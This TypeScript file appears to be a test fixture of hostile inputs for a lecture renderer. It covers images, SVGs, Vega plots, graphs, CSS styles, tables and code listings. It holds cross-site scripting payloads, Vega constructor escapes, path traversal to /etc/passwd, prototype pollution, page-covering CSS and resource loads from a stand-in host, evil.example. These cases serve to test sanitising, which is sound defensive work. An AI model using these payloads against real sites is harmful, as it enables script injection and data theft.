/** In what a lecture shows: pictures, films, plots, graphs, tables, listings, predictions, and how they are to look. */
import { EVIL, MARKUP, outputs, SCRIPT, type Attack } from "./attack";

const svg = (inside: string, more = "") =>
  `data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg" ${more}>${inside}</svg>`)}`;

const image = (source: unknown, more: object = {}) => ({ kind: "image", source, ...more });
const plot = (spec: object, more: object = {}) => ({ kind: "plot", spec, alt: "a plot", ...more });
const DATA = { values: [{ a: "x", b: 1 }] };
const BARS = { data: DATA, mark: "bar", encoding: { x: { field: "a" }, y: { field: "b", type: "quantitative" } } };
const node = (id: unknown, more: object = {}) => ({ id, label: "n", ...more });

export const pictures: Attack[] = [
  ...outputs({
    "pictures from elsewhere": [
      `${EVIL}/x.png`,
      "//evil.example/x.png",
      "\\\\evil.example\\x.png",
      "https:evil.example/x",
    ].map((source) => image(source)),
    "sources of pictures that run": [
      `javascript:${SCRIPT}`,
      `data:text/html,${MARKUP}`,
      "blob:null/x",
      "file:///etc/passwd",
      "",
    ].map((source) => image(source)),
    "an SVG that runs": [
      image(svg(`<script>${SCRIPT};parent.hacked=1</script>`, `onload="parent.hacked=1"`)),
      image(
        svg(
          `<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:parent.hacked=1"/></foreignObject>`,
        ),
      ),
      image(svg(`<image href="${EVIL}/x.png"/><use href="${EVIL}/x.svg#y"/><style>@import "${EVIL}/x.css";</style>`)),
      image(
        svg(
          `<a href="javascript:${SCRIPT}"><text>x</text></a><animate onbegin="${SCRIPT}" attributeName="x" dur="1s"/>`,
        ),
      ),
    ],
    "paths that climb": [
      "../../../../../../etc/passwd",
      "/etc/passwd",
      "..%2f..%2fx.png",
      "files/../../api/traces",
    ].map((source) => image(source)),
    "words about a picture": image("files/none.png", { alt: MARKUP }),
    "sizes of a picture": [
      image("data:image/gif;base64,R0lGODlhAQABAAAAACw=", { width: 1e308, height: -5 }),
      image("data:image/gif;base64,R0lGODlhAQABAAAAACw=", { width: "100%", height: { a: 1 } }),
    ],
    "a picture that is no text": [image(5), image(null), image({ toString: "x" })],
    "films from elsewhere": [`${EVIL}/x.mp4`, `javascript:${SCRIPT}`, `data:text/html,${MARKUP}`, "file:///x.mp4"].map(
      (source) => ({
        kind: "video",
        source,
        alt: MARKUP,
        poster: `${EVIL}/poster.png`,
      }),
    ),
    "a plot that fetches": [
      plot({ ...BARS, data: { url: `${EVIL}/data.csv` } }),
      plot({ ...BARS, data: { url: "/api/traces" } }),
      plot({
        ...BARS,
        data: DATA,
        transform: [{ lookup: "a", from: { data: { url: `${EVIL}/x.json` }, key: "a", fields: ["b"] } }],
      }),
    ],
    "a plot of pictures and links": plot({
      data: { values: [{ u: `${EVIL}/x.png`, l: `javascript:${SCRIPT}` }] },
      mark: { type: "image", width: 50, height: 50 },
      encoding: { url: { field: "u" }, href: { field: "l" } },
    }),
    "a plot that computes": plot({
      ...BARS,
      params: [{ name: "p", expr: `window.hacked=1` }],
      transform: [
        { calculate: `constructor.constructor('${SCRIPT}')()`, as: "b" },
        { filter: `this.constructor.constructor('${SCRIPT}')()` },
      ],
    }),
    "a plot that calls functions": plot({
      ...BARS,
      transform: [
        { calculate: `[].map.constructor("${SCRIPT}")()`, as: "c" },
        { calculate: "event.view.alert(1)", as: "d" },
      ],
    }),
    "a plot that steers the program around it": plot({
      ...BARS,
      usermeta: { embedOptions: { loader: { baseURL: EVIL }, actions: true } },
      config: { events: { view: true }, customFormatTypes: true },
      params: [{ name: "q", value: 1, bind: { input: "range", element: "#root" } }],
    }),
    "a plot with a field of markup": plot({
      ...BARS,
      title: MARKUP,
      data: { values: [{ [MARKUP]: MARKUP, b: 1 }] },
      encoding: { x: { field: MARKUP }, tooltip: { content: "data" } },
    }),
    "a plot of Vega itself": plot({
      $schema: "https://vega.github.io/schema/vega/v6.json",
      signals: [
        { name: "s", init: `window.hacked=1` },
        { name: "t", on: [{ events: "window:load", update: `open('${EVIL}')` }] },
      ],
      data: [{ name: "d", url: `${EVIL}/x.json` }],
      marks: [
        {
          type: "image",
          encode: { enter: { url: { value: `${EVIL}/x.png` }, href: { value: `javascript:${SCRIPT}` } } },
        },
      ],
    }),
    "a plot as large as a city": plot({
      ...BARS,
      width: 1e308,
      height: 1e308,
      padding: 1e9,
      config: { view: { step: 1e9 } },
    }),
    "a plot of what is none": [
      plot({}),
      plot([]),
      plot({ mark: "x", data: { values: "no" } }),
      { kind: "plot", spec: null },
    ],
    "a plot with the names of prototypes": plot({
      ...BARS,
      data: { values: [JSON.parse('{"__proto__": {"polluted": 1}, "constructor": 2, "toString": 3}')] },
      encoding: { x: { field: "__proto__" }, y: { field: "constructor" } },
    }),
    "a graph of markup": {
      kind: "graph",
      layout: "dagre",
      nodes: [node(MARKUP, { label: MARKUP, classes: MARKUP }), node("b")],
      edges: [{ source: MARKUP, target: "b", label: MARKUP }],
    },
    "a graph with the looks of the page": {
      kind: "graph",
      nodes: [node("a", { x: 0, y: 0, data: { u: `url(${EVIL}/x)` } })],
      edges: [{ source: "a", target: "a" }],
      stylesheet: [
        {
          selector: "node",
          style: { "background-color": `url(${EVIL}/x)`, "background-image": `url(${EVIL}/y)`, color: "data(u)" },
        },
        { selector: "edge", style: { "line-color": "red;position:fixed", opacity: "expression(1)", width: 1e300 } },
        { selector: "*[__proto__]", css: { shape: "constructor", "border-color": "var(--bg)" } },
      ],
      style: { position: "fixed", inset: 0, zIndex: 99999, background: `url(${EVIL}/z)` },
    },
    "a graph of wild places": {
      kind: "graph",
      width: 1e308,
      height: -1,
      nodes: [
        node("a", { x: 1e308, y: -1e308 }),
        node("b", { x: "x", y: null }),
        node("__proto__"),
        node("constructor"),
        node("a"),
      ],
      edges: [
        { source: "__proto__", target: "constructor" },
        { source: "a", target: "nowhere" },
      ],
    },
    "a graph of very many nodes": {
      kind: "graph",
      layout: "dagre",
      nodes: Array.from({ length: 3000 }, (_, at) => node(`n${at}`)),
      edges: Array.from({ length: 3000 }, (_, at) => ({ source: `n${at}`, target: `n${(at * 7) % 3000}` })),
    },
    "a graph of what is none": [
      { kind: "graph", nodes: 5, edges: null },
      { kind: "graph" },
      { kind: "graph", nodes: [null], edges: [5] },
    ],
    "styles that load": {
      kind: "text",
      text: "styled",
      style: {
        background: `url(${EVIL}/a)`,
        backgroundColor: `url(${EVIL}/b)`,
        backgroundImage: `image-set("${EVIL}/c" 1x)`,
        content: `url(${EVIL}/d)`,
        cursor: `url(${EVIL}/e), auto`,
        fontFamily: `x; src: url(${EVIL}/f)`,
        color: "red; background: url(https://evil.example/g)",
        width: "expression(alert(1))",
        behavior: `url(${EVIL}/h)`,
        "--accent": "red",
      },
    },
    "styles that cover the page": {
      kind: "text",
      text: "[over everything](https://evil.example)",
      style: {
        position: "fixed",
        inset: 0,
        top: 0,
        left: 0,
        zIndex: 2147483647,
        width: "100vw",
        height: "100vh",
        transform: "scale(100)",
        marginTop: "-9999px",
        margin: -500,
        pointerEvents: "none",
        filter: "invert(1)",
      },
    },
    "styles as large as they can be": {
      kind: "text",
      text: "large",
      style: {
        fontSize: 1e308,
        width: 1e308,
        minWidth: "99999px",
        padding: "9999999px",
        letterSpacing: "1e9px",
        boxShadow: "0 0 0 9999px red",
      },
    },
    "styles of what is none": {
      kind: "text",
      text: "x",
      style: JSON.parse('{"__proto__": {"color": "red"}, "color": {"a": 1}, "width": [1]}'),
    },
    "a table of markup": {
      kind: "table",
      columns: [MARKUP, "__proto__"],
      rows: [[MARKUP, { kind: "string" }]],
      row_count: 1e308,
      caption: MARKUP,
    },
    "a table of what is none": [
      { kind: "table", columns: 5, rows: "x", row_count: NaN },
      { kind: "table", columns: [null], rows: [null, [undefined], 7], row_count: -1 },
    ],
    "a listing of markup": [
      { kind: "code", text: MARKUP, language: `"><script>${SCRIPT}</script>`, caption: MARKUP },
      { kind: "code", text: `</code></pre>${MARKUP}`, language: "__proto__" },
      { kind: "code", text: 5, language: {} },
    ],
    "a placeholder of markup": { kind: "placeholder", of: MARKUP, label: MARKUP, reason: MARKUP },
    "a prediction of markup": {
      kind: "expectation",
      items: [
        { measure: MARKUP, expected: 1e308, measured: 1e-308 },
        { measure: "__proto__", expected: NaN, measured: -1 },
      ],
      tolerance: 1e308,
      label: MARKUP,
      reason: MARKUP,
    },
    "outputs of unknown kinds": [
      { kind: "__proto__" },
      { kind: "constructor" },
      { kind: "toString", text: MARKUP },
      { kind: MARKUP },
    ],
  }),
];
